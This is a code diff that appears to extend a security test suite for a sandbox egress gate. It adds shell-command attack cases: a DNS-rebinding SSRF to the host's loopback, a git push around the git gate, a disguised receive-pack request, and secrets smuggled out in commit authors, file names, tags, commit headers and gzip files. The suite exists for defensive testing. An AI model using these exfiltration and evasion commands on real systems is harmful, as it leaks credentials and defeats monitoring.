@@ -1,12 +1,15 @@
-import { judgeEchoPieces } from "../judges.ts";
+import { judgeEchoPieces, judgeGitPush } from "../judges.ts";
 import type { Attack, AttackContext } from "../types.ts";
-import { ENC_TOOLS, gate, withSecret } from "./common.ts";
+import { ENC_TOOLS, gate, q, withSecret } from "./common.ts";
 
 // Channels whose bytes the bottle picks that a gate reading only URLs,
 // header values and declared body codings would miss (issue 12): a
 // credential over plain http, a name spelled in letters or base32, the
 // method, header names, gzip header fields, undeclared or repeated codings,
-// and a credential echoed back in pieces.
+// a credential echoed back in pieces, a name rebinding to the host's
+// loopback, a git push around the git gate, and what a push through the
+// git gate carries besides added lines (author, file names, tags, headers,
+// compressed files).
 
 export function channelAttacks(ctx: AttackContext): Attack[] {
   const list: Attack[] = [];
@@ -74,5 +77,61 @@ export function channelAttacks(ctx: AttackContext): Attack[] {
     body: (c) => `probe -H "Authorization: Bearer $${c.credential.envVar}" "${H}/echo-sse"\necho "--- body"; cat /tmp/cb.body; echo`,
     judge: (ev, c) => judgeEchoPieces(ev, c),
   });
+
+  // A name under the allowed wildcard that resolves to the host's loopback,
+  // on a port the route lists: only the address check stands between it
+  // and the host's own service (the route names one address and port for
+  // the recording upstream, not this one).
+  list.push(
+    gate("7.rebind-wildcard-loopback", 7, "a name under the allowed wildcard rebinding to a host service on loopback", "gate-ssrf", ["curl"], (c) =>
+      `probe -x "$CB_PROXY" --noproxy '' "http://rebind.${c.wildcardDomain}:${c.hostLoopback.port}/"`,
+    ),
+  );
+
+  // A git push over https to the allowed host, around git.bottle.internal:
+  // the secret would travel zlib-compressed inside the packfile. Refused at
+  // the service discovery; the recording upstream must see nothing.
+  const gitTools = ["git", "mktemp", ...ENC_TOOLS];
+  const repo = (c: AttackContext, i: number, files: string) =>
+    withSecret(c, i, `d=$(mktemp -d) && cd "$d" && git init -q -b main . && git config user.email t@example.com && git config user.name t\n${files}`);
+  list.push({
+    id: "5.git-push-egress",
+    category: 5,
+    title: "git push over https to the allowed host, around the git gate",
+    expected: "gate-policy",
+    tools: gitTools,
+    body: (c) =>
+      repo(c, 0, `echo "key = $S" > README.md && git add README.md && git commit -qm docs\ngit push ${q(`${H}/repo.git`)} HEAD:refs/heads/main 2>&1; echo "RC=$?"`),
+    judge: (ev) => judgeGitPush(ev),
+  });
+  list.push(
+    gate("5.git-receive-pack-spelling", 5, "git's receive-pack service spelled in percent-encoding and upper case", "gate-policy", ["curl"], () =>
+      `probe -X POST -H 'Content-Type: application/x-git-upload-pack-request' --data-binary '0000' "${H}/repo.git/GIT%2DRECEIVE%2dPACK"`,
+    ),
+  );
+
+  // Through the git gate: what a push carries besides added lines.
+  if (ctx.gitRemoteUrl) {
+    const url = q(ctx.gitRemoteUrl);
+    const push = (ref: string) => `git push ${url} ${ref} 2>&1; echo "RC=$?"`;
+    const carried: [string, string, string][] = [
+      ["author", "the secret as the commit author's name", `echo ok > a.txt && git add a.txt && git -c user.name="a $S" commit -qm clean\n${push("HEAD:refs/heads/cb-author")}`],
+      ["filename", "the secret as a file name", `: > "$S.txt" && git add -A && git commit -qm clean\n${push("HEAD:refs/heads/cb-filename")}`],
+      ["tag", "the secret in an annotated tag's message", `echo ok > a.txt && git add a.txt && git commit -qm clean && git tag -a cb-tag -m "release $S"\n${push("refs/tags/cb-tag")}`],
+      ["header", "the secret in a commit header git keeps without knowing it", `t=$(git mktree </dev/null) && c=$(printf 'tree %s\\nauthor a <a@b> 1 +0000\\ncommitter a <a@b> 1 +0000\\nx-note %s\\n\\nclean\\n' "$t" "$S" | git hash-object -t commit -w --stdin) && git update-ref refs/heads/main "$c"\n${push("main:refs/heads/cb-header")}`],
+      ["gzip", "the secret inside a gzip file", `printf 'key = %s\\n' "$S" | gzip -c > notes.gz && git add notes.gz && git commit -qm data\n${push("HEAD:refs/heads/cb-gzip")}`],
+    ];
+    for (const [id, title, files] of carried) {
+      list.push({
+        id: `5.git-push-${id}`,
+        category: 5,
+        title: `git push of ${title}`,
+        expected: "git-scan",
+        tools: [...gitTools, "gzip", "printf"],
+        body: (c) => repo(c, 1, files),
+        judge: (ev) => judgeGitPush(ev),
+      });
+    }
+  }
   return list;
 }
